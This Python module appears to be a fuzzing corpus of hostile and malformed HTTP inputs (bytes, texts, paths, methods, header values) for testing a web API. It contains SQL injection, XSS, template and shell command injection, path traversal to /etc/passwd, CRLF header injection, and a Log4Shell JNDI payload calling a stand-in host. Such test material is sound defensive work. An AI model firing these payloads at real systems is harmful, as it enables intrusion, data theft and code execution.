"""Pieces of hostile input as they stand on the wire: a character is a byte (PEP 3333)."""

from __future__ import annotations

from urllib.parse import quote

BYTES = (
    *("%00", "%0a", "%0d%0a", "%09", "%1b[2J", "%7f", "%80", "%c2%85", "%ff", "%fe%ff", "%c3%28"),
    *("%c0%af", "%c0%80", "%e0%80%af", "%f0%80%80%af", "%f8%88%80%80%80", "%f4%90%80%80"),
    *("%ed%a0%80", "%ed%b0%80", "%ed%a0%80%ed%b0%80", "%ef%bf%bf", "%ef%bf%be", "%ef%bb%bf"),
    *(
        "%",
        "%%",
        "%zz",
        "%1",
        "%u0041",
        "%2",
        "%25%30%30",
        "%2500",
        "%252e%252e%252f",
        "%C3",
        "%E2",
    ),
    *("\x00", "\x0b", "\x1f", "\x7f", "\x80", "\xa0", "\xff", "\xc3\xa9", "\xe9", "\xed\xa0\x80"),
    *(
        "+",
        "++",
        "%2B",
        "&",
        "&&",
        "=",
        "==",
        "&=",
        "&=&",
        ";",
        "%26",
        "%3D",
        "#",
        "?",
        "??",
        "%23",
    ),
)
"""NULs, controls, overlong UTF-8, lone surrogates, what is beyond Unicode, broken escapes, and the
characters that a query string is made of."""

_TEXTS = (
    *(
        "１",
        "٣",
        "৩",
        "Ⅷ",
        "²",
        "½",
        "１２３",
        "ｎｕｃｌｅａｒ",
        "ＳＥＬＥＣＴ",
        "＝１＋１",
        "．．／",
    ),
    *("e" + "\u0301" * 90, "\u0301", "Z" + "\u0300\u0489" * 60, "\u202egoal", "\u200d", "\ufeff7"),
    *("İ", "ı", "ß", "ﬁ", "ŉ", "ǰ", "ΐ", "ſ", "K", "Å", "\u00ad", "\u3000", "\u2028", "\u180e"),
    *("👩‍👩‍👧‍👦" * 8, "🇰🇵", "𝟕", "𝒳", "\U0010ffff", "\ue000", "조선", "北朝鮮", "ه‍", "नि", "ก็็็็็็็็"),
    *("' OR 1=1 --", '"; DROP TABLE claims; --', "<script>alert(1)</script>", "{{7*7}}", "${7*7}"),
    *("#{7*7}", "<%= 7*7 %>", "%s%s%n", "%(name)s", "{0.__class__}", "__proto__", "constructor"),
    *("../" * 12 + "etc/passwd", "..\\..\\", "file:///etc/passwd", "http://127.0.0.1:22/", "`id`"),
    *("$(id)", "|id", "\\", "\\u0000", "\\x00", "\\'", "'", '"', "\x1b]0;x\x07", "\r\nX-Evil: 1"),
    *('"', '""', '-"', '-""', '"a', 'a"', '"a b', '-"a b"', '"" "" ""', "-", "--", "- -", "-a -b"),
    *("a AND b", "a OR", "NOT", "NEAR/3", "text:a", "id:*", "*", "a*", "?", "[a TO z]", "{a TO b}"),
    *(
        "(" * 180,
        '"' * 199,
        "-" * 200,
        '-"' * 100,
        '"a" ' * 50,
        "a " * 99 + "a",
        ". " * 99,
        "^2",
        "~",
    ),
    *("a" * 199, "a" * 200, "a" * 201, "é" * 200, "😀" * 200, "a" * 27 + "!"),
    *(
        "missile",
        '"war preparations" -russia',
        "drones",
        "KCNA reported",
        "-nuclear",
        "2023",
        "the",
    ),
)
TEXTS = (*map(quote, _TEXTS), *(text.encode().decode("latin-1") for text in _TEXTS))
"""What somebody may write in any language, or to do harm; escaped, and as bare bytes."""

NUMBERS = (
    *("0", "1", "25", "99", "100", "101", "-1", "-0", "+7", "007", "7.0", "1e1", "1_0", "0x10"),
    *("999999999", "1000000000", "2147483648", "4294967296", "9223372036854775808", "NaN", "inf"),
    *("18446744073709551616", "9" * 300, "9" * 5000, "null", "true", "[]", "{}", "1,2"),
)
DAYS = (
    *("0001-01-01", "9999-12-31", "2022-12-31", "2024-02-29", "2023-02-29", "0000-01-01", "1-1-1"),
    *("10000-01-01", "2023-13-01", "2024-W01-1", "20240101", "2023-01-01T00:00:00Z", "2023-12-01?"),
)
CURSORS = (
    *("0" * 16, "f" * 16, "7" + "f" * 15, "8" + "0" * 15, f"{10_000:016x}", f"{9_999:016x}"),
    *("0" * 15 + "1", "0" * 15, "F" * 16, "g" * 16, "0000000000002710", "00000a0000000000"),
)
ANY = (*BYTES, *TEXTS, *NUMBERS, *DAYS, *CURSORS)

PATHS = (
    *("/", "//", "/.", "/..", "/./", "/../", "/%2e%2e/", "/%2f", "%2F", "/;a=b", "/*", "*", ""),
    *("/v1", "/v1/", "/V1/claims", "/v2/claims", "/v1/claims/", "//v1/claims", "/v1//claims"),
    *("/v1%2fclaims", "/v1/%63laims", "/v1/claims%00", "/v1/claims%20", "/v1/claims.json", "/v1/."),
    *("/static/", "/static/0/a.css", "/static/../setup.cfg", "/static/%2e%2e/%2e%2e/etc/passwd"),
    *("/claims", "/values", "/values/", "/problems/", "/.git/config", "/.env", "/server-status"),
    *(
        "http://evil.invalid/v1/claims",
        "https://evil.invalid",
        "evil.invalid:443",
        "/\\evil.invalid",
    ),
)

METHODS = (
    *("POST", "PUT", "DELETE", "PATCH", "TRACE", "CONNECT", "PROPFIND", "PRI", "M-SEARCH", "FOO"),
    *(
        "get",
        "Get",
        "head",
        "options",
        "",
        " ",
        "GET ",
        " GET",
        "GET\x00",
        "G\xc9T",
        "G" * 500,
        "*",
    ),
)

_TAGS = (
    '"a"',
    'W/"a"',
    '"',
    '""',
    "W/",
    "W/W/",
    "*",
    "*,*",
    '"*"',
    "a",
    'w/"a"',
    '"a" "b"',
    "\x00",
)
HEADERS: dict[str, tuple[str, ...]] = {
    "ACCEPT_ENCODING": (
        *("gzip", "gzip, deflate, br, zstd", "identity", "*", "gzip;q=0", "gzip;q=0.001", "*;q=0"),
        *("gzip;q=1.0000", "gzip;q=2", "gzip;q=-1", "gzip;q=nan", "gzip;q=1e400", "GZIP", "x-gzip"),
        *("gzip;q*=UTF-8''1", "gzip;a*0=b;a*1=c", 'gzip;a="', "gzip;a*=x''%ff", "gzip;q=٣"),
        *("gzip;a*=utf-16''%00%d8", "gzip;=", ";q=1", ",", ",,,,", "gzip," * 900, "\xff", "gzip;q"),
    ),
    "IF_NONE_MATCH": (
        *_TAGS,
        ",".join(_TAGS),
        '"a",' * 1500,
        '"' * 4000,
        " " * 4000 + "x",
        "," * 4000,
    ),
    "X_REQUEST_ID": (
        *("a", "trace-1.2_3", "A" * 128, "A" * 129, "", " ", "a b", "a\nb", "a\r\nX-Evil: 1", "é"),
        *(
            "\x00",
            '"}',
            "../a",
            "<b>",
            "a" * 8000,
            "\u00a0",
            "a\x85b",
            "a,b",
            "٣".encode().decode("latin-1"),
        ),
    ),
    "HOST": (
        "",
        "evil.invalid",
        "evil.invalid:99999",
        "a b",
        "[::1",
        "[",
        "..",
        "\xff",
        "@",
        "a,b",
        "%00",
    ),
    "RANGE": (
        "bytes=0-0",
        "bytes=0-,0-,0-",
        "bytes=-1",
        "bytes=9-1",
        "lines=1",
        "bytes=" + "0-," * 900,
    ),
    "IF_RANGE": ('"a"', "Wed, 21 Oct 2015 07:28:00 GMT", "x"),
    "IF_MATCH": ('"a"', "*", "x"),
    "IF_MODIFIED_SINCE": (
        "Wed, 21 Oct 2099 07:28:00 GMT",
        "0",
        "Wed, 99 Foo 9999",
        "9" * 400,
        "\xff",
    ),
    "IF_UNMODIFIED_SINCE": ("Wed, 21 Oct 1915 07:28:00 GMT", "x"),
    "ACCEPT": ("*/*", "text/csv", "application/xml;q=1e9", "a/b/c", ";", "," * 900, "\xff"),
    "ACCEPT_LANGUAGE": ("ko", "de;q=0.1", "*", "x-" * 900),
    "COOKIE": ("a=b", "session=" + "A" * 3000, "=;=", "\xff=\x00", "$Version=1"),
    "AUTHORIZATION": ("Basic", "Basic !!!!", "Basic Og==", "Bearer x", "Digest a=b", "\xff"),
    "USER_AGENT": (
        "",
        'x"}\n{"status": 200',
        "\x1b[31m",
        "${jndi:ldap://evil.invalid/a}",
        "\xff" * 900,
    ),
    "X_FORWARDED_FOR": ("evil.invalid", "127.0.0.1", "a" * 900, '"\n'),
    "X_FORWARDED_HOST": ("evil.invalid",),
    "X_FORWARDED_PROTO": ("javascript",),
    "X_FORWARDED_PREFIX": ("//evil.invalid",),
    "FORWARDED": ("for=evil.invalid;host=evil.invalid;proto=gopher",),
    "X_ORIGINAL_URL": ("/metrics",),
    "X_REWRITE_URL": ("/metrics",),
    "X_HTTP_METHOD_OVERRIDE": ("DELETE", "POST"),
    "ORIGIN": ("null", "https://evil.invalid", "\xff"),
    "ACCESS_CONTROL_REQUEST_METHOD": ("DELETE", "\xff"),
    "ACCESS_CONTROL_REQUEST_HEADERS": ("x-evil", "a," * 900),
    "CONNECTION": ("close", "upgrade", "keep-alive, X-Request-ID"),
    "UPGRADE": ("websocket", "h2c"),
    "TE": ("trailers", "chunked"),
    "EXPECT": ("100-continue", "x"),
    "REFERER": ("https://evil.invalid/\xff",),
    "CACHE_CONTROL": ("no-cache", "max-age=-1", "only-if-cached"),
    "CONTENT_TYPE": (
        "application/json",
        "multipart/form-data; boundary=",
        "application/x-www-form-urlencoded",
    ),
    "CONTENT_LENGTH": ("0", "5", "-1", "x", "9" * 40, "\xb2"),
    "TRANSFER_ENCODING": ("chunked", "gzip, chunked"),
}
"""Values of header fields, by their names in CGI; ``CONTENT_TYPE`` and ``CONTENT_LENGTH`` have no
``HTTP_`` before them there."""
